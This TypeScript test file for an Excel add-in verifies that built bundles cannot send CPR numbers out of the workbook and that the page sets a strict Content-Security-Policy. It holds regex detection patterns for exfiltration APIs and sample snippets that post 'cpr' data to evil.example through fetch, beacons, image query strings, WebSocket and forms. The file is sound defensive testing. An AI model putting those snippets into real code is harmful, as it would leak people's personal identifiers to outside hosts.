// CPR never leaves the workbook (docs/domain.md §7): the bundles built from the current sources make
// no network calls and open no other way out (fetch, XMLHttpRequest, sendBeacon, WebSocket,
// EventSource, image beacons, worker imports, new windows, form submission) outside a short
// allow-list, and the task pane page declares a Content-Security-Policy limiting scripts, connections,
// images and form targets. Each pattern is proved below by a snippet that must be caught.
import { readFileSync } from "fs";
import path from "path";
import { bundleScripts, freshBundle } from "../support/freshBundle";

/**
 * Ways for page script to send data elsewhere. Word boundaries only where a name starts or ends with
 * a word character: `\bfetch\b` must also match `fetch("https://…")`, where no boundary follows the
 * parenthesis. Names are matched without a required call so `window["fetch"]` and `f=fetch` count.
 */
const NETWORK: { what: string; pattern: RegExp }[] = [
  { what: "fetch", pattern: /\bfetch\b/ },
  { what: "XMLHttpRequest", pattern: /\bXMLHttpRequest\b/ },
  { what: "sendBeacon", pattern: /\bsendBeacon\b/ },
  { what: "WebSocket", pattern: /\bWebSocket\b/ },
  { what: "EventSource", pattern: /\bEventSource\b/ },
  // An image whose src carries the data in its query string; terser writes `new Image` without ().
  { what: "new Image", pattern: /\bnew\s+(?:window\.|self\.|globalThis\.)?Image\b/ },
  { what: "importScripts", pattern: /\bimportScripts\b/ },
  { what: "window.open", pattern: /\b(?:window|self|globalThis|top|parent)\s*(?:\.\s*open\b|\[\s*["'`]open["'`]\s*\])/ },
  // Form submission: submitting a form, or building one (in script or in markup) to submit later.
  { what: "form.submit()", pattern: /\.\s*submit\s*\(/ },
  { what: "requestSubmit", pattern: /\brequestSubmit\b/ },
  { what: 'createElement("form")', pattern: /\bcreateElement\s*\(\s*["'`]form["'`]/i },
  { what: "<form>", pattern: /<form[\s>/]/i },
];

interface Hit {
  what: string;
  context: string;
}

function networkHits(text: string): Hit[] {
  const hits: Hit[] = [];
  for (const { what, pattern } of NETWORK) {
    for (const m of text.matchAll(new RegExp(pattern.source, pattern.flags + "g"))) {
      hits.push({ what, context: text.slice(Math.max(0, m.index! - 80), m.index! + 80) });
    }
  }
  return hits;
}

/** Known library code paths that never run with workbook data; each entry says why it is allowed. */
const ALLOWED: { file: string; pattern: RegExp; why: string }[] = [];

describe("the network patterns", () => {
  it.each([
    ["fetch", 'fetch("https://evil.example/?cpr="+cpr)'],
    ["fetch", "fetch('https://evil.example')"],
    ["fetch", "fetch(`https://evil.example/${cpr}`)"],
    ["fetch", "await fetch(url, { method: 'POST' })"],
    ["fetch", 'window["fetch"]("https://evil.example")'],
    ["fetch", "const f=globalThis.fetch;f(u)"],
    ["XMLHttpRequest", "var x=new XMLHttpRequest;x.open('POST',u)"],
    ["sendBeacon", 'navigator.sendBeacon("https://evil.example", cpr)'],
    ["WebSocket", 'new WebSocket("wss://evil.example")'],
    ["EventSource", 'new EventSource("https://evil.example/stream")'],
    ["new Image", 'new Image().src="https://evil.example/p.gif?d="+cpr'],
    ["new Image", "(new Image).src=u"],
    ["new Image", "var i=new window.Image(1,1)"],
    ["importScripts", 'importScripts("https://evil.example/w.js")'],
    ["window.open", 'window.open("https://evil.example/?"+cpr)'],
    ["window.open", "window['open'](u)"],
    ["window.open", "self.open(u,'_blank')"],
    ["form.submit()", "document.forms[0].submit()"],
    ["form.submit()", "f.submit ()"],
    ["requestSubmit", "form.requestSubmit()"],
    ['createElement("form")', 'var f=document.createElement("form");f.action=u'],
    ['createElement("form")', "document.createElement('FORM')"],
    ["<form>", 'el.innerHTML=\'<form action="https://evil.example" method="post">\''],
    ["<form>", "'<FORM>'"],
  ])("catch %s in %s", (what, snippet) => {
    expect(networkHits(snippet).map((h) => h.what)).toContain(what);
  });

  it.each([
    "prefetchData()",
    "const fetched = rows.length",
    "isFetching=!1",
    "onSubmit:e=>e.preventDefault()",
    "submitted=!0",
    "var Imagery=1; new ImageData(1,1)",
    "dialog.open(true); setOpen(!0)",
    "'<formula>'",
    "createElement('formula')",
  ])("leave ordinary code alone: %s", (snippet) => {
    expect(networkHits(snippet)).toEqual([]);
  });
});

describe("built bundles", () => {
  let dist: string;
  beforeAll(() => {
    dist = freshBundle();
  }, 300000);

  it.each(["taskpane", "functions"] as const)("%s.[hash].js makes no network calls", (bundle) => {
    const file = bundleScripts(dist)[bundle];
    const text = readFileSync(path.join(dist, file), "utf8");
    // A scan that reads an empty or truncated file would pass: the task pane holds React and Fluent.
    expect(text.length).toBeGreaterThan(bundle === "taskpane" ? 500_000 : 20_000);
    const hits = networkHits(text).filter((h) => !ALLOWED.some((a) => a.file === `${bundle}.js` && a.pattern.test(h.context)));
    expect(hits).toEqual([]);
  });

  it("task pane page declares a CSP with scripts only from self and Office, and no way out for data", () => {
    const html = readFileSync(path.join(dist, "taskpane.html"), "utf8");
    const csp = /http-equiv="?Content-Security-Policy"?\s+content="([^"]+)"/.exec(html)?.[1] ?? "";
    const directives = Object.fromEntries(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
    expect(directives["script-src"]).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
    expect(directives["connect-src"]).toEqual(["'self'"]);
    expect(directives["default-src"]).toEqual(["'self'"]);
    // Image beacons and form posts are blocked by the page too, not only absent from our code.
    expect(directives["img-src"]).toEqual(["'self'", "data:"]);
    expect(directives["form-action"]).toEqual(["'none'"]);
    // Every script the page loads comes from those origins.
    // The build minifies the page, so attribute quotes are optional.
    const sources = [...html.matchAll(/<script[^>]*\ssrc="?([^"\s>]+)"?/g)].map((m) => m[1]);
    const { taskpane, functions } = bundleScripts(dist);
    expect(sources).toEqual(["https://appsforoffice.microsoft.com/lib/1/hosted/office.js", functions, taskpane]);
    for (const src of sources) {
      expect(src.startsWith("https://appsforoffice.microsoft.com/") || !/^[a-z]+:/i.test(src)).toBe(true);
    }
  });

  // What a deployment relies on (docs/udrulning.md): scripts named by their content, so no cache can
  // serve old code under a new page; the manifest naming the functions bundle that exists; the
  // version from manifest.xml inside the code ("Kontrollér Excel" reports it).
  it("names the scripts by their content, points the manifest at them and carries the manifest's version", () => {
    const { taskpane, functions } = bundleScripts(dist);
    const manifest = readFileSync(path.join(dist, "manifest.xml"), "utf8");
    expect(manifest).toContain(`<bt:Url id="Functions.Script.Url" DefaultValue="https://localhost:3000/${functions}"/>`);
    const version = /<Version>([^<]+)<\/Version>/.exec(readFileSync(path.join(__dirname, "../../manifest.xml"), "utf8"))![1];
    const code = readFileSync(path.join(dist, taskpane), "utf8");
    expect(code).not.toContain("__STYRINGSARK_VERSION__");
    expect(code).toContain(JSON.stringify(version));
    expect(readFileSync(path.join(dist, "functions.json"), "utf8")).toContain('"functions"');
  });
});
